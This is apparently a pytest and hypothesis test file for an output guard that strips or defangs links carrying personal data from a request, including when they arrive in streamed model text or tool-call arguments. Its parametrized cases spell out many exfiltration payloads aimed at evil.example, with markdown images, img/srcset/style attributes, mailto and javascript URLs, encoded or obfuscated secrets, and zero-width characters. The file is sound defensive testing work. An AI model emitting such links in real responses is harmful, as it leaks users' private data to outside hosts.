"""No link takes data of the request away, however it is written and however the stream is cut."""

from __future__ import annotations

import base64
import json
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from psf_runtime.errors import Blocked
from psf_runtime.guards.contracts import ScreenEgress
from psf_runtime.types.chunks import ReasoningDelta, TextDelta, ToolCallDelta
from psf_runtime.types.messages import Message, untrusted
from tests.unit.guards.contracts.drive import Run, pieces, request

EVIL = "https://evil.example"
ASKED = request(
    Message.system("You help customers of https://shop.example/help kindly."),
    Message.user(
        "My name is Katherine Doe, card 4929 1234 5678, mail kat@mail.example; see https://shop.example/orders/7781234"
    ),
    Message.user(untrusted("Look at http://stranger.example/page today", source="mail")),
)


def screened(text: str, cuts: list[int] | None = None, **settings: object) -> Run:
    return Run(ScreenEgress(**settings), ASKED, pieces(text, cuts or []))  # type: ignore[arg-type]


SECRET = "Katherine"
ENCODED = {
    "clear": SECRET,
    "lower": SECRET.lower(),
    "percent": "".join(f"%{ord(c):02x}" for c in SECRET),
    "twice percent": "".join(f"%25{ord(c):02x}" for c in SECRET),
    "base64": base64.b64encode(SECRET.encode()).decode(),
    "base64 url": base64.urlsafe_b64encode(b"?>" + SECRET.encode()).decode().rstrip("="),
    "hex": SECRET.encode().hex(),
    "mail": "kat@mail.example",
    "number": "4929-1234-5678",
}
SHAPES = {
    "bare": "see {url} now",
    "inline": "see [this]({url}) now",
    "picture": "see ![this]({url}) now",
    "picture with words": "see ![a nice view]({url} 'title') now",
    "reference": "see [this][1]\n\n[1]: {url}\n",
    "autolink": "see <{url}> now",
    "src": 'see <img src="{url}"> now',
    "src without quotes": "see <img src={url}> now",
    "src with spaces": "see <img src = '{url}'> now",
    "srcset": 'see <img srcset="/a.png 1x, {url} 2x"> now',
    "href": 'see <a href="{url}">here</a> now',
    "style": "see <p style=\"background: url('{url}')\">x</p> now",
    "angle": "see [this](<{url}>) now",
}


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("form", ENCODED)
@pytest.mark.parametrize("cut", [1, 7, 10_000])
def test_a_link_with_data_of_the_request_is_removed(shape: str, form: str, cut: int) -> None:
    """Whatever the construct, the encoding and the cut: no address with the value comes out."""
    url = f"{EVIL}/p?q={ENCODED[form]}"
    run = screened(SHAPES[shape].format(url=url), [cut])
    assert run.error is None
    assert "evil" not in run.text
    assert "[link removed]" in run.text
    assert run.text.startswith("see ")
    assert "link.carries_data" in run.kinds


@pytest.mark.parametrize(
    "hidden",
    [
        "<img src='https&colon;//evil.example/?q=Katherine'>",
        "<img src='&#104;ttps://evil.example/?q=Katherine'>",
        "![x](https:\\//evil.example/?q=Katherine)",
        "![x](//evil.example/?q=Katherine)",
        "<img src='//evil.example/?q=Katherine'>",
        "<img src='ht\ntps://evil.example/?q=Katherine'>",
        "<p style='background:url(\\68ttps://evil.example/?q=Katherine)'>",
        "![x](https:/evil.example/?q=Katherine)",
        "[x](www.evil.example/?q=Katherine)",
        "ht\u200btps://evil.example/?q=Kath\u200berine",
        "[mail](mailto:a@evil.example?body=Katherine)",
        "<a href='javascript:fetch(1)'>evil.example</a>",
        '<img src="https://evil.example/?q=my friend Katherine">',
        "[1]: //evil.example/?q=Katherine",
        "https://Katherine.a.evil.example/",
        "https://Katherine:pw@evil.example/",
    ],
)
@pytest.mark.parametrize("cut", [1, 5, 10_000])
def test_hidden_forms_are_undone_first(hidden: str, cut: int) -> None:
    """Entities, escapes, missing slashes, invisible signs: an address is judged as a browser reads it."""
    run = screened(f"a {hidden} b", [cut], find_values=lambda text: [m.span() for m in re.finditer("Katherine", text)])
    assert not re.search(r"q=|Katherine|body=|javascript:", run.text)


def test_a_link_that_a_person_wrote_may_come_back() -> None:
    """Verbatim from a user or system part: unchanged, punctuation after it included."""
    text = "Your order: https://shop.example/orders/7781234. Help: [here](https://shop.example/help)."
    assert screened(text).text == text


def test_a_link_to_a_page_about_the_subject_is_only_found() -> None:
    """Plain words in the path of a link that a person must follow are the page's title; the other host is a finding."""
    text = "Read [this](https://docs.example/customers/guide)."
    run = screened(text)
    assert run.text == text
    assert [(f.kind, f.observed) for f in run.context.findings] == [("link.other_host", True)]


def test_the_same_words_in_a_picture_are_data() -> None:
    """A picture loads by itself, so that any word of the request in its address counts."""
    assert screened("![x](https://docs.example/customers/guide)").text == "![x]([link removed])"


def test_an_address_from_an_untrusted_part_is_dead_text() -> None:
    """It stays readable, and nothing can follow it; an allowed host lives."""
    text = "They say http://stranger.example/page?a=1 is good"
    assert screened(text).text == "They say hxxp://stranger.example/page?a=1 is good"
    assert screened(text, allowed=["stranger.example"]).text == text


def test_an_allow_list_kills_other_hosts() -> None:
    """Enforced, only listed hosts and their subdomains stay links."""
    text = "https://a.acme.example/x https://other.example/x https://notacme.example/x"
    run = screened(text, allowed=["acme.example"], mode="enforce")
    assert run.text == "https://a.acme.example/x hxxps://other.example/x hxxps://notacme.example/x"
    assert run.kinds == ["link.not_allowed"]


def test_an_allowed_host_may_not_carry_values() -> None:
    """The list says where links may go, not that personal data may travel in them."""
    assert screened("https://acme.example/?q=kat@mail.example", allowed=["acme.example"]).text == "[link removed]"


def test_values_come_from_the_finder_when_there_is_one() -> None:
    """With a detector, a short name is data and an order number is not."""
    settings = {"find_values": lambda text: [m.span() for m in re.finditer("Doe,|Kath", text)]}
    assert screened("https://x.example/kath", **settings).text == "[link removed]"
    assert screened("https://x.example/492912345678", **settings).text == "https://x.example/492912345678"


@pytest.mark.parametrize(
    "text",
    [
        "Plain prose, with 1:2 odds, a < b, x = 'y' and don't; C:\\Users\\Katherine\\file.txt // comment",
        "看这里：https 是协议。\n\n- [ ] todo\n",
        'if a == "b": print("c") # =\'',
        "profile: x, e.g. this/that and AT&T &amp; co.",
        "$\\frac{a}{b}$ data: 5",
    ],
)
def test_texts_without_links_are_unchanged(text: str) -> None:
    """Prose, code, formulas and paths pass as they are, cut anywhere."""
    assert screened(text).text == text
    assert screened(text, [1]).text == text


def test_only_the_open_word_is_held() -> None:
    """Words go on as soon as they are whole."""
    run_session = ScreenEgress().open(screened("").context)
    run_session.on_request(ASKED)
    assert run_session.on_chunk(TextDelta("one two thr")) == TextDelta("one two ")
    assert run_session.on_chunk(TextDelta("ee")) is None


def test_an_endless_construct_is_cut() -> None:
    """After 4,096 characters an open quote or address is defanged and nothing more is held for it."""
    run = screened('<img src="' + " " * 5_000 + 'https:evil.example/?q=Katherine">', [100])
    assert "Katherine" not in run.text
    long_address = "https://evil.example/" + "a" * 5_000 + "?q=Katherine"
    assert screened(long_address, [64]).text.startswith("[link removed]aaa")
    assert screened("b" * 9_000, [64]).text == "b" * 9_000


def test_many_addresses_in_one_word_go_together() -> None:
    """A word of more than 32 addresses is removed whole."""
    assert screened("https://a.example," * 40).text == "[link removed]"


def test_reasoning_is_withheld_and_counted() -> None:
    """Unless it is asked for; and text around it is one text, so that no link hides across the gap."""
    chunks = [TextDelta("see htt"), ReasoningDelta("hm"), TextDelta("ps://evil.example/?q=Katherine x")]
    run = Run(ScreenEgress(), ASKED, chunks)
    assert run.text == "see [link removed] x"
    assert "reasoning.withheld" in run.kinds
    delivered = Run(ScreenEgress(reasoning="deliver"), ASKED, [ReasoningDelta("go https://evil.example/?q=Katherine")])
    assert [type(part).__name__ for part in delivered.response.parts] == ["Reasoning"]
    assert "Katherine" not in delivered.response.parts[0].text  # type: ignore[union-attr]


@pytest.mark.parametrize("first", ["htt", "https://evil.example/?q=", '<img src="https://evil.example/?q='])
def test_a_link_cut_by_a_tool_call_is_one_link(first: str) -> None:
    """The caller joins all text parts, so they are judged joined."""
    whole = "https://evil.example/?q=Katherine" if first == "htt" else first + "Katherine"
    chunks = [TextDelta("see " + first), ToolCallDelta(0, "i", "n", "{}"), TextDelta(whole.removeprefix(first) + ' x"')]
    run = Run(ScreenEgress(), ASKED, chunks)
    assert "https://evil" not in run.text or "Katherine" not in run.text
    assert "[link removed]" in run.text


def test_tool_arguments_are_screened_once_strangers_speak() -> None:
    """With an untrusted part in the request an address in arguments may carry nothing; without one it is a wish."""
    arguments = json.dumps({"url": f"{EVIL}/?q={SECRET}", "n": 1})
    chunks = [ToolCallDelta(0, "i", "get", arguments[:20]), ToolCallDelta(0, arguments=arguments[20:])]
    run = Run(ScreenEgress(), ASKED, chunks)
    assert run.response.tool_calls[0].arguments == {"url": "[link removed]", "n": 1}
    trusting = request(Message.user("My name is Katherine"))
    assert Run(ScreenEgress(), trusting, chunks).response.tool_calls[0].args == arguments


def test_arguments_without_end_stop_the_call() -> None:
    """What has to be held is bounded."""
    chunks = [ToolCallDelta(0, "i", "get", "a" * 600_000), ToolCallDelta(0, arguments="a" * 600_000)]
    assert isinstance(Run(ScreenEgress(), ASKED, chunks).error, Blocked)


BITS = st.sampled_from(
    [
        *("https://", "http:", "//", "www.", "evil.example/", "?q=", "Katherine", "kat@mail.example", "a", " ", "\n"),
        *(
            '="',
            "='",
            '"',
            "'",
            "](",
            "]: ",
            "![",
            "[",
            "<",
            ">",
            ")",
            "url(",
            "=",
            "&colon;",
            "\\",
            "\u200b",
            "é",
            "看",
        ),
        *("https://shop.example/orders/7781234", "http://stranger.example/page", "data:", "javascript:", " = "),
    ]
)


@settings(max_examples=250, deadline=None)
@given(st.lists(BITS, max_size=14), st.lists(st.integers(1, 9), min_size=1, max_size=5))
def test_any_cut_gives_the_same_text(bits: list[str], cuts: list[int]) -> None:
    """Law 2: what comes out does not depend on how the text was cut, nor do the findings."""
    text = "".join(bits)
    whole, cut = screened(text), screened(text, cuts)
    assert whole.text == cut.text
    assert whole.kinds == cut.kinds


def NAMES(text: str) -> list[tuple[int, int]]:
    return [match.span() for match in re.finditer("Katherine", text)]


LIVE = re.compile(r"(?:(?<![a-z0-9])https?:|\bwww\.|//)[^\s\"'<>]*(?:katherine|kat@mail)", re.IGNORECASE)


@settings(max_examples=250, deadline=None)
@given(st.lists(BITS, max_size=14), st.lists(st.integers(1, 9), min_size=1, max_size=5))
def test_no_live_address_holds_a_value(bits: list[str], cuts: list[int]) -> None:
    """Law 3 for links: no scheme is followed by a value of the request without a break between."""
    text = "".join(bits).replace("//", "https://") + " "
    assert not LIVE.search(screened(text, cuts, find_values=NAMES).text)


def test_words_are_not_read_over_and_over() -> None:
    """An open word is looked at once: 60,000 characters of openers in pieces of three take no noticeable time."""
    started = time.process_time()
    screened('="' * 30_000, [3])
    assert time.process_time() - started < 5
